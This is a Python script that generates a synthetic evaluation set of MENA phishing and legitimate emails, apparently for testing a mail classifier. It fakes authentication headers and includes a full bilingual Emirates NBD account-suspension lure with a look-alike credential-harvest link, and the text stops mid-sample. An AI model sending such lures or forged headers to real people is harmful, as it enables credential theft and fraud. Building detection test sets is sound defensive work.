"""Blind evaluation set 42: phishing, fraud, malspam and look-alike legitimate mail received in 2024-2026 by
consumers, companies and government employees in the Middle East and North Africa (UAE, Saudi Arabia, Qatar,
Kuwait, Oman, Bahrain, Egypt, Jordan, Lebanon, Morocco, Algeria, Tunisia), in Arabic (UTF-8 and windows-1256),
French and English: bank suspension and OTP lures, parcel fees, toll and traffic fines, identity-service lures
(UAE PASS, Absher, Nafath), utility refunds, telecom points, Hajj and job-offer advance fees, ZATCA and FTA lures,
Microsoft 365 kits, supplier bank-change BEC, CEO fraud and tender/RFQ/purchase-order droppers, beside genuine bank,
post, toll, utility, airline, government, shopping, newsletter, tender and personal mail of the same people.
Run: cd /work/main && .venv/bin/python samples/tools/build_blind42_samples.py
"""

from __future__ import annotations

import base64
import email
import glob
import hashlib
import os
import sys
import textwrap
from datetime import datetime, timedelta, timezone
from email import policy
from email.header import Header
from email.utils import format_datetime

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)

import files as F  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

ROOT = os.path.dirname(os.path.dirname(HERE))
N = 42
# Maintainer's corrections after the first scan: filed where the engine's classification puts them
# (the names keep the writer's kind).
REFILED: dict[str, str] = {
    "b42-legit-dewa-bill": "clean",
    "b42-legit-enbd-estatement": "clean",
}

# --------------------------------------------------------------------------- deterministic helpers

def hx(seed: str, n: int = 16) -> str:
    out = ""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}#{i}".encode()).hexdigest()
        i += 1
    return out[:n]


def raw(seed: str, n: int) -> bytes:
    out = b""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}@{i}".encode()).digest()
        i += 1
    return out[:n]


def b64(seed: str, n: int) -> str:
    return base64.b64encode(raw(seed, n)).decode()[:n]


def an(seed: str, n: int, alphabet: str = "abcdefghijklmnopqrstuvwxyz0123456789") -> str:
    data = raw(seed, n)
    return "".join(alphabet[b % len(alphabet)] for b in data)


def AN(seed: str, n: int) -> str:
    return an(seed, n, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")


def UP(seed: str, n: int) -> str:
    return an(seed, n, "ABCDEFGHIJKLMNOPQRSTUVWXYZ")


def HX(seed: str, n: int) -> str:
    return hx(seed, n).upper()


def reg2(seed: str) -> str:
    return f"0{1 + int(dg(seed, 2)) % 8}"


def mixed(seed: str, n: int) -> str:
    return an(seed, n, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")


def dg(seed: str, n: int) -> str:
    return an(seed, n, "0123456789")


def when(iso: str) -> datetime:
    return datetime.fromisoformat(iso)


def rfc(d: datetime) -> str:
    return format_datetime(d)


def utc(d: datetime) -> datetime:
    return d.astimezone(timezone.utc)


def _us_dst(d: datetime) -> bool:
    y = d.year
    march = datetime(y, 3, 8, 10, tzinfo=timezone.utc)
    while march.weekday() != 6:
        march += timedelta(days=1)
    nov = datetime(y, 11, 1, 9, tzinfo=timezone.utc)
    while nov.weekday() != 6:
        nov += timedelta(days=1)
    return march <= utc(d) < nov


def pacific(d: datetime) -> str:
    if _us_dst(d):
        return rfc(utc(d).astimezone(timezone(timedelta(hours=-7)))) + " (PDT)"
    return rfc(utc(d).astimezone(timezone(timedelta(hours=-8)))) + " (PST)"


def ms_date(d: datetime) -> str:
    u = utc(d)
    return u.strftime("%a, ") + str(u.day) + u.strftime(" %b %Y %H:%M:%S +0000")


def enc(value: str, charset: str = "utf-8", name: str = "Subject") -> str:
    if all(ord(c) < 128 for c in value):
        return value
    return Header(value, charset, header_name=name).encode(linesep="\n")


def addr(name: str, address: str, charset: str = "utf-8") -> str:
    if not name:
        return address
    if all(ord(c) < 128 for c in name):
        if any(c in name for c in ',.;:@()[]"<>\\'):
            return f'"{name}" <{address}>'
        return f"{name} <{address}>"
    return f"{enc(name, charset, 'From')} <{address}>"


def wrap_b64(value: str, indent: str = "\t", width: int = 72) -> str:
    return ("\n" + indent).join(value[i:i + width] for i in range(0, len(value), width))


def fold(line: str, width: int = 78, indent: str = "\t") -> str:
    """Fold a header at '; ' boundaries so no line gets long."""
    parts = line.split("; ")
    out, cur = [], parts[0]
    for p in parts[1:]:
        if len(cur) + 2 + len(p) > width:
            out.append(cur + ";")
            cur = indent + p
        else:
            cur += "; " + p
    out.append(cur)
    return "\n".join(out)


def sigb(seed: str, domain: str) -> str:
    return b64(f"dkim-b|{seed}|{domain}", 344)


def dkim(domain: str, selector: str, seed: str, d: datetime,
         h: str = "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type",
         c: str = "relaxed/relaxed", extra: str = "") -> str:
    bh = base64.b64encode(raw(f"bh|{seed}|{domain}", 32)).decode()
    t = int(utc(d).timestamp()) - 3
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c={c}; d={domain}; s={selector};{extra}\n"
            f"\tt={t}; bh={bh};\n\th={h};\n\tb={wrap_b64(sigb(seed, domain))}")


def boundary(seed: str, style: str = "generic") -> str:
    if style == "gmail":
        return "000000000000" + hx(seed + "gb", 16)
    if style == "outlook":
        return f"_000_{AN(seed + 'ob1', 24)}{AN(seed + 'ob2', 4).lower()}_"
    if style == "apple":
        return f"Apple-Mail={AN(seed + 'ab', 8)}-{AN(seed + 'ab2', 4)}-{AN(seed + 'ab3', 4)}-{AN(seed + 'ab4', 4)}-{AN(seed + 'ab5', 12)}"
    if style == "phpmailer":
        return f"b1_{mixed(seed + 'pb', 43)}"
    if style == "sfmc":
        return f"----=_Part_{dg(seed + 'sf', 8)}_{dg(seed + 'sf2', 9)}.{dg(seed + 'sf3', 13)}"
    if style == "thunder":
        return f"------------{mixed(seed + 'tb', 24)}"
    return f"----=_NextPart_{hx(seed + 'nb', 3).upper()}_{hx(seed + 'nb2', 4).upper()}_{hx(seed + 'nb3', 8).upper()}"


# --------------------------------------------------------------------------- receiving side

def _spf_google(r: str, mf: str, ip: str) -> str:
    return {
        "pass": f"pass (google.com: domain of {mf} designates {ip} as permitted sender)",
        "softfail": f"softfail (google.com: domain of transitioning {mf} does not designate {ip} as permitted sender)",
        "fail": f"fail (google.com: domain of {mf} does not designate {ip} as permitted sender)",
        "neutral": f"neutral (google.com: {ip} is neither permitted nor denied by best guess record for domain of {mf})",
        "none": f"none (google.com: {mf} does not designate permitted sender hosts)",
    }[r]


def rx(kind: str, *, rcpt: str, d: datetime, helo: str, ip: str, mailfrom: str, seed: str,
       rdns: str | None = None, spf: str = "pass", dkims: list[tuple[str, str, str]] = (),
       dmarc: tuple[str, str] | None = None, hfrom: str = "", host: str = "") -> str:
    """Trace headers the receiving system writes above the sender's own headers.

    kind: gmail, m365, outlookcom, postfix, yahoo.  dkims: (domain, selector, result).
    dmarc: (result, policy) or None when the From domain publishes no record.
    """
    mfdom = mailfrom.split("@")[-1] if mailfrom else helo
    rdns = rdns if rdns is not None else helo
    lines: list[str] = []
    if kind == "gmail":
        arr = d + timedelta(seconds=2)
        auth = []
        for dom, sel, res in dkims:
            auth.append(f"dkim={res} header.i=@{dom} header.s={sel} header.b={sigb(seed, dom)[:8]}")
        auth.append(f"spf={_spf_google(spf, mailfrom, ip)} smtp.mailfrom={mailfrom}")
        if dmarc:
            pol = dmarc[1].upper()
            dis = "NONE" if dmarc[0] == "pass" else ("QUARANTINE" if pol == "QUARANTINE" else "NONE")
            auth.append(f"dmarc={dmarc[0]} (p={pol} sp={pol} dis={dis}) header.from={hfrom}")
        authtxt = ";\n       ".join(auth)
        sid = f"{hx(seed + 'g1', 4)}:{hx(seed + 'g2', 4)}"
        gid = (f"{hx(seed + 'gi', 13)}-{hx(seed + 'gj', 12)}si{dg(seed + 'gk', 7)}{an(seed + 'gl', 3)}."
               f"{int(dg(seed + 'gm', 3)) % 400}.{utc(arr).strftime('%Y.%m.%d.%H.%M.%S')}")
        lines += [
            f"Delivered-To: {rcpt}",
            f"Received: by 2002:a05:{sid}:b0:{hx(seed + 'g3', 3)}:{hx(seed + 'g4', 4)}:{hx(seed + 'g5', 4)} with SMTP id "
            f"{an(seed + 'g6', 6)}csp{dg(seed + 'g7', 7)}{an(seed + 'g8', 3)};\n        {pacific(arr + timedelta(seconds=1))}",
            f"X-Google-Smtp-Source: AGHT+I{mixed(seed + 'xg', 82)}",
            f"X-Received: by 2002:a17:90b:{hx(seed + 'x1', 4)}:b0:{hx(seed + 'x2', 3)}:{hx(seed + 'x3', 4)}:{hx(seed + 'x4', 4)} with SMTP id "
            f"{an(seed + 'x5', 8)}-{hx(seed + 'x6', 12)}.{int(dg(seed + 'x7', 2)) + 3}.{int(utc(arr).timestamp())}{dg(seed + 'x8', 3)};\n"
            f"        {pacific(arr + timedelta(seconds=1))}",
            f"ARC-Seal: i=1; a=rsa-sha256; t={int(utc(arr).timestamp())}; cv=none;\n        d=google.com; s=arc-20240605;\n"
            f"        b={wrap_b64(b64(seed + 'arcs', 344), '        ', 68)}",
            f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s=arc-20240605;\n"
            f"        h=to:subject:message-id:date:from:mime-version:dkim-signature;\n"
            f"        bh={base64.b64encode(raw(seed + 'arcbh', 32)).decode()};\n        fh={base64.b64encode(raw(seed + 'arcfh', 32)).decode()};\n"
            f"        b={wrap_b64(b64(seed + 'arcb', 344), '        ', 68)}",
            f"ARC-Authentication-Results: i=1; mx.google.com;\n       {authtxt}",
            f"Return-Path: <{mailfrom}>",
            f"Received: from {helo} ({rdns}. [{ip}])\n        by mx.google.com with ESMTPS id {gid}\n        for <{rcpt}>\n"
            f"        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n        {pacific(arr)}",
            f"Received-SPF: {_spf_google(spf, mailfrom, ip)} client-ip={ip};",
            f"Authentication-Results: mx.google.com;\n       {authtxt}",
        ]
    elif kind in ("m365", "outlookcom"):
        arr = d + timedelta(seconds=3)
        region = "eurprd" if kind == "m365" else "namprd"
        rn = "EUR" if kind == "m365" else "NAM"
        rg = reg2(seed + "m5")
        mbx = f"{UP(seed + 'm1', 2)}{dg(seed + 'm2', 1)}PR{dg(seed + 'm3', 2)}MB{dg(seed + 'm4', 4)}.{region}{rg}.prod.outlook.com"
        ca = f"{UP(seed + 'c1', 2)}{dg(seed + 'c2', 1)}PR{dg(seed + 'c3', 2)}CA{dg(seed + 'c4', 4)}"
        pepf = f"{UP(seed + 'p1', 2)}{dg(seed + 'p2', 1)}PEPF0000{HX(seed + 'p3', 4)}"
        v6a = f"2603:10a6:{hx(seed + 'v1', 3)}:{hx(seed + 'v2', 3)}::{hx(seed + 'v3', 2)}"
        v6b = f"2603:10a6:{hx(seed + 'v4', 3)}:{hx(seed + 'v5', 3)}:cafe::{hx(seed + 'v6', 2)}"
        build = f"15.20.{8000 + int(dg(seed + 'bd', 3)) % 900}.{int(dg(seed + 'be', 2))}"
        spfx = {"pass": f"pass (sender IP is {ip}) smtp.mailfrom={mfdom}",
                "softfail": f"softfail (sender IP is {ip}) smtp.mailfrom={mfdom}",
                "fail": f"fail (sender IP is {ip}) smtp.mailfrom={mfdom}",
                "none": f"none (sender IP is {ip}) smtp.mailfrom={mfdom}",
                "neutral": f"neutral (sender IP is {ip}) smtp.mailfrom={mfdom}"}[spf]
        if dkims:
            dk = "; ".join(f"dkim={res} ({'signature was verified' if res == 'pass' else 'body hash did not verify'}) header.d={dom}"
                           for dom, sel, res in dkims)
        else:
            dk = "dkim=none (message not signed) header.d=none"
        aligned = any(res == "pass" and hfrom.endswith(dom) for dom, _, res in dkims) or (spf == "pass" and hfrom == mfdom)
        if dmarc and dmarc[0] == "pass":
            dm = f"dmarc=pass action=none header.from={hfrom};compauth=pass reason=100"
        elif dmarc:
            act = {"REJECT": "oreject", "QUARANTINE": "quarantine"}.get(dmarc[1].upper(), "none")
            dm = f"dmarc=fail action={act} header.from={hfrom};compauth=fail reason=000"
        elif aligned:
            dm = f"dmarc=bestguesspass action=none header.from={hfrom};compauth=pass reason=109"
        else:
            dm = f"dmarc=none action=none header.from={hfrom};compauth=softpass reason=201"
        rspf = {"pass": f"Pass (protection.outlook.com: domain of {mfdom} designates {ip} as permitted sender)",
                "softfail": f"SoftFail (protection.outlook.com: domain of transitioning {mfdom} discourages use of {ip} as permitted sender)",
                "fail": f"Fail (protection.outlook.com: domain of {mfdom} does not designate {ip} as permitted sender)",
                "none": f"None (protection.outlook.com: {mfdom} does not designate permitted sender hosts)",
                "neutral": f"Neutral (protection.outlook.com: {ip} is neither permitted nor denied by domain of {mfdom})"}[spf]
        lines += [
            f"Received: from {mbx.split('.')[0]}.{region}{rg}.prod.outlook.com\n ({v6a}) by {ca.replace('CA', 'MB')}.{region}{rg}.prod.outlook.com with\n"
            f" HTTPS; {ms_date(arr + timedelta(seconds=1))}",
            f"Received: from {ca}.{region}{rg}.prod.outlook.com ({v6b.replace('cafe::', ':')}) by\n {mbx} ({v6a}) with\n"
            f" Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {build}; {ms_date(arr + timedelta(seconds=1))}",
            f"Received: from {pepf}.{region}{rg}.prod.outlook.com\n ({v6b}) by {ca}.outlook.office365.com\n ({v6b.replace('cafe::', ':')}) with Microsoft SMTP Server (version=TLS1_3,\n"
            f" cipher=TLS_AES_256_GCM_SHA384) id {build} via Frontend Transport; {ms_date(arr)}",
            "Authentication-Results: " + fold(f"spf={spfx}; {dk};{dm}", 76, " "),
            "Received-SPF: " + fold(f"{rspf} receiver=protection.outlook.com; client-ip={ip}; helo={helo}; pr=C", 76, " "),
            f"Received: from {helo} ({ip}) by\n {pepf}.mail.protection.outlook.com ({'10.167.' + str(int(dg(seed + 'pi', 3)) % 250) + '.' + str(int(dg(seed + 'pj', 3)) % 250)}) with Microsoft SMTP Server\n"
            f" (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id {build}\n via Frontend Transport; {ms_date(arr)}",
        ]
    elif kind == "postfix":
        arr = d + timedelta(seconds=4)
        host = host or "mail." + rcpt.split("@")[1]
        qid = f"4{AN(seed + 'q1', 1)}{mixed(seed + 'q2', 2)}{dg(seed + 'q3', 1)}{mixed(seed + 'q4', 8)}"
        qid2 = f"4{AN(seed + 'q1', 1)}{mixed(seed + 'q5', 2)}{dg(seed + 'q6', 1)}{mixed(seed + 'q7', 8)}"
        local = arr.astimezone(timezone(timedelta(hours=3 if rcpt.endswith((".sa", ".jo", ".kw", ".qa")) else (4 if rcpt.endswith((".ae", ".om")) else 1))))
        ltxt = rfc(local)
        auth_dk = []
        for dom, sel, res in dkims:
            auth_dk.append(f"Authentication-Results: {host};\n\tdkim={res} (2048-bit key; unprotected) header.d={dom} header.i=@{dom} "
                           f"header.a=rsa-sha256 header.s={sel} header.b={sigb(seed, dom)[:8]};\n\tdkim-atps=neutral")
        spf_rs = {"pass": "Pass", "softfail": "Softfail", "fail": "Fail", "none": "None", "neutral": "Neutral"}[spf]
        lines += [
            f"Return-Path: <{mailfrom}>",
            f"Delivered-To: {rcpt}",
            f"Received: from localhost (localhost [127.0.0.1])\n\tby {host} (Postfix) with ESMTP id {qid2}\n\tfor <{rcpt}>; {ltxt}",
            f"X-Virus-Scanned: Debian amavisd-new at {host.split('.', 1)[1]}",
        ]
        lines += auth_dk
        if dmarc:
            lines.append(f"Authentication-Results: {host}; dmarc={dmarc[0]} (p={dmarc[1].lower()} dis=none) header.from={hfrom}")
        else:
            lines.append(f"Authentication-Results: {host}; dmarc=none (p=none dis=none) header.from={hfrom}")
        lines += [
            f"Authentication-Results: {host}; spf={spf} smtp.mailfrom={mfdom}",
            f"Received-SPF: {spf_rs} (mailfrom) identity=mailfrom; client-ip={ip}; helo={helo};\n envelope-from={mailfrom}; receiver={rcpt}",
            f"Received: from {helo} ({rdns} [{ip}])\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n"
            f"\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\n\t(No client certificate requested)\n"
            f"\tby {host} (Postfix) with ESMTPS id {qid}\n\tfor <{rcpt}>; {rfc(local - timedelta(seconds=2))}",
        ]
    elif kind == "yahoo":
        arr = d + timedelta(seconds=2)
        auth = []
        for dom, sel, res in dkims:
            auth.append(f"dkim={res} header.i=@{dom} header.s={sel}")
        auth.append(f"spf={spf} smtp.mailfrom={mfdom}")
        if dmarc:
            auth.append(f"dmarc={dmarc[0]}(p={dmarc[1].upper()}) header.from={hfrom}")
        else:
            auth.append(f"dmarc=unknown header.from={hfrom}")
        lines += [
            f"X-Apparently-To: {rcpt}; {ms_date(arr)}",
            f"Return-Path: <{mailfrom}>",
            f"Received-SPF: {spf} (domain of {mfdom} designates {ip} as permitted sender)" if spf == "pass"
            else f"Received-SPF: {spf} (domain of {mfdom} does not designate {ip} as permitted sender)",
            "Authentication-Results: atlas-production.v2-mail-prod1-gq1.omega.yahoo.com;\n " + ";\n ".join(auth) + ";",
            f"X-Originating-IP: [{ip}]",
            f"Received: from {ip} (EHLO {helo})\n by 10.217.{int(dg(seed + 'y1', 3)) % 250}.{int(dg(seed + 'y2', 3)) % 250} with SMTPs\n"
            f" (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384);\n {ms_date(arr)}",
        ]
    else:
        raise ValueError(kind)
    return "\n".join(lines)


def exch(seed: str, d: datetime, kind: str = "m365") -> str:
    """Headers Exchange Online adds below the sender's headers."""
    nid = f"{hx(seed + 'n1', 8)}-{hx(seed + 'n2', 4)}-{hx(seed + 'n3', 4)}-{hx(seed + 'n4', 4)}-{hx(seed + 'n5', 12)}"
    return (f"X-MS-Exchange-Organization-ExpirationStartTime: {utc(d + timedelta(seconds=3)).strftime('%d %b %Y %H:%M:%S.')}{dg(seed + 'ms', 4)} (UTC)\n"
            f"X-MS-Exchange-Organization-Network-Message-Id: {nid}\n"
            f"X-MS-Exchange-Organization-MessageDirectionality: Incoming\n"
            f"X-MS-PublicTrafficType: Email\n"
            f"X-MS-Exchange-Organization-AuthSource: {UP(seed + 'p1', 2)}{dg(seed + 'p2', 1)}PEPF0000{HX(seed + 'p3', 4)}."
            f"{'eurprd' if kind == 'm365' else 'namprd'}{reg2(seed + 'm5')}.prod.outlook.com\n"
            f"X-MS-Exchange-Organization-AuthAs: Anonymous\n"
            f"X-MS-Office365-Filtering-Correlation-Id: {nid}")


# --------------------------------------------------------------------------- message-id styles

def mid(style: str, seed: str, domain: str = "", d: datetime | None = None) -> str:
    if style == "gmail":
        return f"<CA{mixed(seed + 'mg', 2)}{mixed(seed + 'mg2', 40)}{('+' + mixed(seed + 'mg3', 8)) if int(dg(seed, 1)) % 2 else ''}@mail.gmail.com>"
    if style == "outlook":
        host = f"{UP(seed + 'mo', 2)}{dg(seed + 'mo2', 1)}PR{dg(seed + 'mo3', 2)}MB{dg(seed + 'mo4', 4)}"
        return f"<{host}{AN(seed + 'mo5', 16)}@{host}.{domain or 'eurprd04'}.prod.outlook.com>"
    if style == "ses":
        return f"<{hx(seed + 'ms1', 16)}-{hx(seed + 'ms2', 8)}-{hx(seed + 'ms3', 4)}-{hx(seed + 'ms4', 4)}-{hx(seed + 'ms5', 4)}-{hx(seed + 'ms6', 12)}-000000@{domain or 'eu-west-1.amazonses.com'}>"
    if style == "phpmailer":
        return f"<{mixed(seed + 'mp', 43)}@{domain}>"
    if style == "sendgrid":
        return f"<{mixed(seed + 'sg', 22)}@geopod-ismtpd-{int(dg(seed + 'sg2', 2))}>"
    if style == "mailchimp":
        return f"<{hx(seed + 'mc', 20)}.{hx(seed + 'mc2', 10)}.{hx(seed + 'mc3', 10)}@mail{int(dg(seed + 'mc4', 3)) % 300}.atl{int(dg(seed + 'mc5', 3)) % 400}.mcdlv.net>"
    if style == "brevo":
        return f"<{dg(seed + 'br', 12)}.{dg(seed + 'br2', 11)}@smtp-relay.mailin.fr>"
    if style == "sfmc":
        return f"<{hx(seed + 'sm', 8)}-{hx(seed + 'sm2', 4)}-{hx(seed + 'sm3', 4)}-{hx(seed + 'sm4', 4)}-{hx(seed + 'sm5', 12)}@{domain}>"
    if style == "apple":
        return f"<{AN(seed + 'ap', 8)}-{AN(seed + 'ap2', 4)}-{AN(seed + 'ap3', 4)}-{AN(seed + 'ap4', 4)}-{AN(seed + 'ap5', 12)}@{domain or 'gmail.com'}>"
    if style == "dated":
        return f"<{d.strftime('%Y%m%d%H%M%S') if d else ''}.{dg(seed + 'dt', 6)}.{hx(seed + 'dt2', 8)}@{domain}>"
    if style == "java":
        return f"<{dg(seed + 'jv', 9)}.{dg(seed + 'jv2', 6)}.{dg(seed + 'jv3', 13)}@{domain}>"
    if style == "zoho":
        return f"<{hx(seed + 'zh', 11)}.{hx(seed + 'zh2', 8)}.{dg(seed + 'zh3', 19)}@zoho.com>"
    if style == "thunder":
        return f"<{hx(seed + 'th', 8)}-{hx(seed + 'th2', 4)}-{hx(seed + 'th3', 4)}-{hx(seed + 'th4', 4)}-{hx(seed + 'th5', 12)}@{domain}>"
    return f"<{hx(seed + 'mx', 24)}@{domain}>"


# --------------------------------------------------------------------------- bodies

def plain(paras: list[str], width: int = 0) -> str:
    if not width:
        return "\n\n".join(paras) + "\n"
    out = []
    for p in paras:
        out.append("\n".join(textwrap.fill(line, width, break_on_hyphens=False, break_long_words=False) if line else ""
                             for line in p.split("\n")))
    return "\n\n".join(out) + "\n"


def esc(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def brand_html(*, title: str, brand: str, color: str, paras: list[str], button: tuple[str, str] | None = None,
               footer: list[str] = (), rtl: bool = False, lang: str = "en", preheader: str = "",
               logo: str = "", pixel: str = "", font: str = "Arial, Helvetica, sans-serif", width: int = 600,
               after: list[str] = ()) -> str:
    """Table layout notification as bank, post and ESP templates write it. paras hold HTML fragments."""
    d = ' dir="rtl"' if rtl else ""
    align = "right" if rtl else "left"
    logo_html = (f'<img src="{logo}" alt="{esc(brand)}" width="160" style="display:block;border:0;" />' if logo
                 else f'<span style="font-size:22px;font-weight:bold;color:#ffffff;">{esc(brand)}</span>')
    body = "\n".join(f'<tr><td style="padding:0 32px 16px 32px;font-family:{font};font-size:15px;line-height:24px;'
                     f'color:#333333;text-align:{align};">{p}</td></tr>' for p in paras)
    btn = ""
    if button:
        btn = (f'<tr><td align="center" style="padding:8px 32px 28px 32px;">'
               f'<table role="presentation" cellpadding="0" cellspacing="0" border="0"><tr>'
               f'<td bgcolor="{color}" style="border-radius:4px;"><a href="{button[1]}" target="_blank" '
               f'style="display:inline-block;padding:13px 34px;font-family:{font};font-size:15px;font-weight:bold;'
               f'color:#ffffff;text-decoration:none;">{button[0]}</a></td></tr></table></td></tr>')
    aft = "\n".join(f'<tr><td style="padding:0 32px 16px 32px;font-family:{font};font-size:15px;line-height:24px;'
                    f'color:#333333;text-align:{align};">{p}</td></tr>' for p in after)
    foot = "<br />\n".join(footer)
    pre = (f'<div style="display:none;max-height:0;overflow:hidden;mso-hide:all;">{preheader}</div>\n' if preheader else "")
    px = f'<img src="{pixel}" width="1" height="1" alt="" style="display:block;" />\n' if pixel else ""
    return f"""<!DOCTYPE html>
<html lang="{lang}"{d}>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8" />
<meta name="viewport" content="width=device-width, initial-scale=1.0" />
<title>{esc(title)}</title>
</head>
<body style="margin:0;padding:0;background-color:#f2f3f5;"{d}>
{pre}<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#f2f3f5">
<tr><td align="center" style="padding:24px 8px;">
<table role="presentation" width="{width}" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" style="max-width:{width}px;">
<tr><td bgcolor="{color}" style="padding:20px 32px;text-align:{align};">{logo_html}</td></tr>
<tr><td style="padding:28px 32px 8px 32px;font-family:{font};font-size:20px;font-weight:bold;color:#1a1a1a;text-align:{align};">{title}</td></tr>
{body}
{btn}
{aft}
<tr><td style="padding:20px 32px;background-color:#fafafa;border-top:1px solid #e5e5e5;font-family:{font};font-size:11px;line-height:17px;color:#888888;text-align:{align};">{foot}</td></tr>
</table>
</td></tr>
</table>
{px}</body>
</html>
"""


def gmail_html(paras: list[str], rtl: bool = False, sig: str = "") -> str:
    d = "rtl" if rtl else "ltr"
    inner = "<div><br></div>".join(f"<div>{p}</div>" for p in paras)
    s = f'<br clear="all"><div><br></div><span class="gmail_signature_prefix">-- </span><br><div dir="{d}" class="gmail_signature">{sig}</div>' if sig else ""
    return f'<div dir="{d}">{inner}{s}</div>\n'


def outlook_html(paras: list[str], sig: list[str] = (), rtl: bool = False, lang: str = "EN-US",
                 quoted: str = "", font: str = "Calibri", size: str = "11.0pt") -> str:
    d = ' dir="RTL"' if rtl else ""
    al = ' style="text-align:right;direction:rtl;unicode-bidi:embed"' if rtl else ""
    ps = "\n".join(f'<p class="MsoNormal"{al}><span style="font-size:{size};font-family:&quot;{font}&quot;,sans-serif">'
                   f'{p if p else "<o:p>&nbsp;</o:p>"}<o:p></o:p></span></p>' for p in list(paras) + [""] + list(sig))
    return f"""<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="Generator" content="Microsoft Word 15 (filtered medium)">
<style><!--
@font-face
\t{{font-family:"Cambria Math";
\tpanose-1:2 4 5 3 5 4 6 3 2 4;}}
@font-face
\t{{font-family:Calibri;
\tpanose-1:2 15 5 2 2 2 4 3 2 4;}}
p.MsoNormal, li.MsoNormal, div.MsoNormal
\t{{margin:0cm;
\tfont-size:11.0pt;
\tfont-family:"Calibri",sans-serif;}}
span.EmailStyle17
\t{{mso-style-type:personal-compose;
\tfont-family:"Calibri",sans-serif;
\tcolor:windowtext;}}
.MsoChpDefault
\t{{mso-style-type:export-only;
\tfont-family:"Calibri",sans-serif;}}
@page WordSection1
\t{{size:612.0pt 792.0pt;
\tmargin:72.0pt 72.0pt 72.0pt 72.0pt;}}
div.WordSection1
\t{{page:WordSection1;}}
--></style>
</head>
<body lang="{lang}" link="#0563C1" vlink="#954F72" style="word-wrap:break-word"{d}>
<div class="WordSection1">
{ps}
{quoted}</div>
</body>
</html>
"""


def alt(seed: str, plain_text: str, html: str, style: str = "generic", enc_: str = "quoted-printable",
        charset: str = "utf-8") -> Multi:
    return Multi("alternative", boundary(seed + "alt", style),
                 [text(plain_text, "plain", enc_, charset), text(html, "html", enc_, charset)])


def mixed_(seed: str, first, atts: list, style: str = "generic") -> Multi:
    return Multi("mixed", boundary(seed + "mix", style), [first] + list(atts))


def pdf_att(name: str, lines: list[str], title: str = "", link=None) -> Leaf:
    return attachment("application/pdf", name, F.pdf(lines, link=link, title=title))


def zip_att(name: str, members) -> Leaf:
    return attachment("application/zip", name, F.zip_archive(members))


REGISTRY: list[tuple[str, str, str, object]] = []


def reg(stem: str, folder: str, desc: str):
    def deco(fn):
        REGISTRY.append((f"b{N}-{stem}", folder, desc, fn))
        return fn
    return deco


def H(*parts: str) -> str:
    return "\n".join(p for p in parts if p)


def kit_html(inner: str, rtl: bool = False, font: str = "Tahoma, Arial, sans-serif") -> str:
    d = ' dir="rtl"' if rtl else ""
    return (f'<html{d}><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>\n'
            f'<body{d} style="font-family:{font};font-size:14px;color:#222;">\n{inner}\n</body></html>\n')


# =========================================================================== attacks: phishing

@reg("phish-enbd-suspension", "phishing",
     "Bilingual Emirates NBD 'online banking restricted after unusual sign-in, verify within 24 hours' lure from a "
     "look-alike domain on a VPS (PHPMailer), credential-harvest link on the same look-alike domain.")
def _p_enbd(stem):
    d = when("2025-03-18T04:41:07+00:00")
    dom = "emiratesnbd-secure-notice.com"
    link = f"https://{dom}/ae/personal/verify?session={hx(stem + 'l', 32)}"
    html = brand_html(
        title="Important: Your account access has been restricted<br />&#1578;&#1606;&#1576;&#1610;&#1607; &#1607;&#1575;&#1605;",
        brand="Emirates NBD", color="#072b61", preheader="Verify your identity within 24 hours to avoid suspension",
        paras=[
            "Dear Valued Customer,",
            "As part of our ongoing commitment to protect your account, we detected an unusual sign-in attempt to your "
            "Emirates NBD Online Banking from a new device (Android 14, Lagos, Nigeria) on 18/03/2025 at 07:52 AM.",
            "For your protection, access to your account and cards has been <b>temporarily restricted</b>. To restore full "
            "access please verify your identity within <b>24 hours</b>. Failure to do so will result in the permanent "
            "suspension of your online banking in line with Central Bank of the UAE regulations.",
            '<div dir="rtl" style="text-align:right;">عميلنا العزيز،<br />رصدنا محاولة دخول غير اعتيادية إلى حسابك في '
            "الخدمات المصرفية عبر الإنترنت من جهاز جديد. حفاظاً على أمان حسابك تم تقييد الوصول إلى حسابك وبطاقاتك مؤقتاً. "
            "يرجى التحقق من هويتك خلال 24 ساعة لتجنب الإيقاف الدائم.</div>",
        ],
        button=("Verify Now | تحقق الآن", link),
        footer=["Emirates NBD Bank (P.J.S.C.) is licensed by the Central Bank of the UAE.",
                "This is an automated message, please do not reply.",
                "&copy; 2025 Emirates NBD. All rights reserved."])
    hdr = H(rx("gmail", rcpt="ahmed.alshamsi87@gmail.com", d=d, helo=f"mail.{dom}", ip="185.225.73.41",
               mailfrom=f"bounce@{dom}", seed=stem, dkims=[(dom, "default", "pass")], dmarc=None, hfrom=dom),
            dkim(dom, "default", stem, d, h="Date:From:Reply-To:Subject:Message-ID:MIME-Version:Content-Type"),
            f"Date: {rfc(d)}",
            f"From: Emirates NBD <no-reply@{dom}>",
            f"Reply-To: no-reply@{dom}",
